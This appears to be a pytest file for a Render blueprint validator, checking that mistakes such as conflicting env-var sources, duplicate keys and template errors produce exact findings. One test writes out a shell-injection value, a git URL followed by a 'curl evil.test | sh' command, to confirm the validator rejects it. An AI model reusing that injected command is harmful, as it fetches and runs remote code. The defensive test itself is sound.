"""Issue 3's exact-error list: each mistake gets the finding a person can act on, with file, line,
column, path, rule, message and hint."""

from __future__ import annotations

import json
from pathlib import Path

import pytest
from ruamel.yaml import YAML

from renderer.blueprint.render import load_blueprint_file
from renderer.configuration import blueprint_schema, load_configuration
from renderer.tenant import Tenant
from tests.conftest import Sim, run
from tests.validation_helpers import blueprint_report, finding, validate_json, write

SOURCES = ("give it exactly one of `value:`, `generateValue: true`, `sync: false`, `fromDatabase:`, "
           "`fromService:` or `fromGroup:`")


def test_two_sources_and_no_source_are_both_reported(tmp_path: Path) -> None:
    path = write(tmp_path / "render.yaml", """
        services:
          - type: web
            name: api
            runtime: python
            buildCommand: pip install -r requirements.txt
            startCommand: gunicorn app:app
            envVars:
              - key: STRIPE_KEY
                value: sk_test_123
                sync: false
              - key: CORS_ORIGIN
        """)
    code, report = blueprint_report(path)
    assert code == 1
    assert report == {"valid": False, "warnings": [], "errors": [
        finding(path, 10, 9, "services[0].envVars[0].sync", "semantic", "env-var-source",
                "env var `STRIPE_KEY` has more than one value source: `value` and `sync: false`",
                "keep exactly one; a secret you set in the Render Dashboard is `sync: false` without a `value`"),
        finding(path, 11, 9, "services[0].envVars[1]", "semantic", "env-var-source",
                "env var `CORS_ORIGIN` has no value source", SOURCES),
    ]}


def test_second_top_level_services_key(tmp_path: Path) -> None:
    path = write(tmp_path / "render.yaml", """
        services:
          - type: web
            name: api
            runtime: docker
        databases:
          - name: db
        services:
          - type: keyvalue
            name: cache
            ipAllowList: []
        """)
    code, report = blueprint_report(path)
    assert code == 1
    assert report["errors"] == [finding(
        path, 7, 1, "", "yaml", "duplicate-key",
        "duplicate key `services`: it is already defined on line 1; YAML keeps only one of the two values",
        "remove one of them or merge their contents (line 1 and line 7)")]


def test_key_value_under_databases_read_through_from_database(tmp_path: Path) -> None:
    path = write(tmp_path / "render.yaml", """
        services:
          - type: web
            name: api
            runtime: docker
            envVars:
              - key: REDIS_URL
                fromDatabase:
                  name: cache
                  property: connectionString
        databases:
          - name: cache
            maxmemoryPolicy: allkeys-lru
            ipAllowList: []
        """)
    code, report = blueprint_report(path)
    assert code == 1
    read_with = "`fromService: {type: keyvalue, name: cache, property: connectionString}`"
    assert report["errors"] == [
        finding(path, 8, 17, "services[0].envVars[0].fromDatabase.name", "semantic", "from-database-ref",
                "fromDatabase reads `cache`, a Key Value instance wrongly declared under `databases:`; a Key Value "
                "is read with `fromService`",
                f"declare `cache` under `services:` with `type: keyvalue` and write {read_with}"),
        finding(path, 11, 5, "databases[0]", "semantic", "key-value-under-databases",
                "`cache` is a Key Value instance (it sets `maxmemoryPolicy`) but is declared under `databases:`, "
                "which holds Postgres databases only",
                f"move `cache` under `services:` with `type: keyvalue` and `ipAllowList: []`, and read it with "
                f"{read_with}"),
        finding(path, 12, 5, "databases[0].maxmemoryPolicy", "schema", "unknown-key", "unknown key `maxmemoryPolicy`",
                "Postgres is the only kind under `databases:`; a Key Value belongs under `services:` with "
                "`type: keyvalue`"),
    ]


def test_sync_false_in_an_env_group(tmp_path: Path) -> None:
    path = write(tmp_path / "render.yaml", """
        envVarGroups:
          - name: shared
            envVars:
              - key: STRIPE_KEY
                sync: false
              - key: LOG_LEVEL
                value: info
        services:
          - type: web
            name: api
            runtime: docker
            envVars:
              - fromGroup: shared
        """)
    code, report = blueprint_report(path)
    assert code == 1
    assert report["errors"] == [finding(
        path, 5, 9, "envVarGroups[0].envVars[0].sync", "semantic", "env-group-sync-false",
        "env var `STRIPE_KEY` in env group `shared` has `sync: false`; renderer takes `sync: false` only on a "
        "service's env vars (an env group's values come from the blueprint)",
        "give the group var a `value:` or `generateValue: true`, or set it with `sync: false` on the services that "
        "need it")]


def test_previews_generation_off_stays_the_string_off(tmp_path: Path) -> None:
    path = write(tmp_path / "render.yaml", """
        previews:
          generation: off
        services:
          - type: web
            name: api
            runtime: docker
        """)
    for mode in ((), ("--strict",)):
        assert blueprint_report(path, *mode) == (0, {"valid": True, "errors": [], "warnings": []})
    blueprint = load_blueprint_file(path)
    assert blueprint.raw["previews"]["generation"] == "off"
    assert blueprint.document["previews"]["generation"] == "off"


def test_env_value_3_10_stays_the_text_3_10(project: Path) -> None:
    template = project / "blueprints" / "base_crm" / "render.yaml.j2"
    template.write_text(template.read_text().replace(
        "      - key: DJANGO_SECRET_KEY\n",
        "      - key: PYTHON_VERSION\n        value: 3.10\n      - key: BACKUP_AT\n        value: 10:30\n"
        "      - key: DJANGO_SECRET_KEY\n"))
    assert validate_json() == (0, {"valid": True, "errors": [], "warnings": []})
    config = load_configuration(Path("tenants"), Path("blueprints"), blueprint_schema(None))
    web = next(r for r in config.tenants["globex"].resources if r.blueprint_name == "backboneos-backend")
    values = {e.key: e.value for e in web.env_vars}
    assert (values["PYTHON_VERSION"], values["BACKUP_AT"]) == ("3.10", "10:30")
    rendered = run("render", "globex")
    assert rendered.code == 0
    assert '        value: "3.10"\n' in rendered.out
    env = {e["key"]: e.get("value") for e in YAML(typ="safe").load(rendered.out)["services"][0]["envVars"]}
    assert (env["PYTHON_VERSION"], env["BACKUP_AT"]) == ("3.10", "10:30")


def test_misspelt_tenant_variable_names_the_template_line(project: Path) -> None:
    template = project / "blueprints" / "base_crm" / "render.yaml.j2"
    lines = template.read_text().splitlines(keepends=True)
    assert lines[20] == "        value: {{ tenant.name | yaml_quote }}\n"
    lines[20] = "        value: {{ tenant.nmae | yaml_quote }}\n"
    template.write_text("".join(lines))
    code, report = validate_json()
    assert code == 1
    available = ", ".join(f"tenant.{name}" for name in Tenant.model_fields)
    assert report["errors"] == [finding(
        "blueprints/base_crm/render.yaml.j2", 21, None, "", "template", "undefined-variable",
        "undefined variable in template: 'dict object' has no attribute 'nmae' "
        "(rendering tenants `acme-corp`, `globex`, `initech`)",
        f"did you mean `tenant.name`? available: {available}")]


def test_tenant_name_with_yaml_and_html_characters_renders_intact(sim: Sim, project: Path) -> None:
    name = 'R&D <Labs>: "East"'
    for other in ("acme-corp", "globex", "initech"):
        (project / "tenants" / f"{other}.yaml").unlink()
    (project / "tenants" / "rnd.yaml").write_text(f"name: {json.dumps(name)}\nslug: rnd\nblueprint: base_crm\n")
    assert validate_json() == (0, {"valid": True, "errors": [], "warnings": []})
    rendered = run("render", "rnd")
    assert rendered.code == 0
    document = YAML(typ="safe").load(rendered.out)
    for service in document["services"]:
        assert {"key": "TENANT_NAME", "value": name} in service["envVars"]
    applied = run("apply", "--auto-approve")
    assert applied.code == 0, applied.output
    lock = json.loads((project / "render.lock.json").read_text())
    web = lock["tenants"]["rnd"]["resources"]["web_service.backboneos-backend"]["id"]
    assert sim.get(f"/services/{web}/env-vars/TENANT_NAME").json()["value"] == name


def test_custom_plugin_repo_with_shell_metacharacters_is_rejected(project: Path) -> None:
    repo = "https://x.test/a.git; curl evil.test | sh"
    path = project / "tenants" / "globex.yaml"
    path.write_text(path.read_text() + f"custom_plugin_repo: {json.dumps(repo)}\n")
    code, report = validate_json()
    assert code == 1
    assert report["errors"] == [finding(
        "tenants/globex.yaml", 8, 21, "custom_plugin_repo", "tenant", "invalid-custom_plugin_repo",
        f"custom_plugin_repo {repo!r} is not an https:// or git@host:path git URL without whitespace or shell "
        "metacharacters",
        "use a plain URL such as `https://github.com/acme/custom-plugins.git`")]


@pytest.mark.parametrize(("expression", "message"), [
    ('{{ "a" + 1 }}', 'template error: TypeError: can only concatenate str (not "int") to str'),
    ("{{ 1/0 }}", "template error: ZeroDivisionError: division by zero"),
])
def test_an_expression_that_fails_is_a_finding_on_its_template_line(
        sim: Sim, project: Path, expression: str, message: str) -> None:
    template = project / "blueprints" / "base_crm" / "render.yaml.j2"
    lines = template.read_text().splitlines(keepends=True)
    lines[20] = f"        value: {expression}\n"
    template.write_text("".join(lines))
    before = sim.exchanges()
    code, report = validate_json()
    assert code == 1
    [error] = report["errors"]
    assert (error["file"], error["line"], error["layer"], error["rule"]) == (
        "blueprints/base_crm/render.yaml.j2", 21, "template", "template-error")
    assert error["message"].startswith(message)
    result = run("plan")
    assert result.code == 1 and "Traceback" not in result.output
    assert sim.exchanges() == before


def test_a_missing_include_is_named_and_the_blueprint_is_not_called_missing(project: Path) -> None:
    template = project / "blueprints" / "base_crm" / "render.yaml.j2"
    template.write_text('{% include "nope.j2" %}\n' + template.read_text())
    code, report = validate_json()
    assert code == 1
    [error] = report["errors"]
    assert error["rule"] == "template-missing" and error["line"] == 1
    assert error["message"].startswith("template 'nope.j2' not found (included by blueprints/base_crm/render.yaml.j2)")


def test_a_misspelt_blueprint_name_suggests_the_right_one(project: Path) -> None:
    path = project / "tenants" / "globex.yaml"
    path.write_text(path.read_text().replace("blueprint: base_crm", "blueprint: base_crmm"))
    code, report = validate_json()
    assert code == 1
    assert [e["hint"] for e in report["errors"]] == ["did you mean `base_crm`? blueprints: base_crm"]


def test_tenant_env_key_the_blueprint_already_declares_is_a_duplicate(sim: Sim, project: Path) -> None:
    tenant = project / "tenants" / "globex.yaml"
    tenant.write_text(tenant.read_text() + '  DATABASE_URL: "postgres://elsewhere/db"\n')
    code, report = validate_json()
    assert code == 1
    assert report["errors"] == [finding(
        "tenants/globex.yaml", 8, 17, "services[0].envVars[6].key", "semantic", "duplicate-env-key",
        "duplicate env var key `DATABASE_URL` in `services[0].envVars` of `backboneos-backend`: already declared at "
        "envVars[2] (blueprints/base_crm/render.yaml.j2:22) (the value comes from `env.DATABASE_URL` in the tenant "
        "file, used at blueprints/base_crm/render.yaml.j2:33)",
        "declare each key once per service or env group; a tenant `env:` key must not repeat a key the blueprint "
        "already sets (drop it from the tenant file, or rename it)")]
    start = sim.exchanges()
    planned = run("plan")
    assert planned.code == 1
    assert "duplicate env var key `DATABASE_URL`" in planned.output
    assert sim.exchanges() == start  # no API call after a validation error


def test_duplicate_env_key_in_an_env_group(tmp_path: Path) -> None:
    path = write(tmp_path / "render.yaml", """
        envVarGroups:
          - name: shared
            envVars:
              - key: LOG_LEVEL
                value: info
              - key: LOG_LEVEL
                value: debug
        """)
    code, report = blueprint_report(path)
    assert code == 1
    assert report["errors"] == [finding(
        path, 6, 14, "envVarGroups[0].envVars[1].key", "semantic", "duplicate-env-key",
        "duplicate env var key `LOG_LEVEL` in `envVarGroups[0].envVars` of env group `shared`: already declared at "
        "envVars[0] (line 4)",
        "declare each key once per service or env group; a tenant `env:` key must not repeat a key the blueprint "
        "already sets (drop it from the tenant file, or rename it)")]
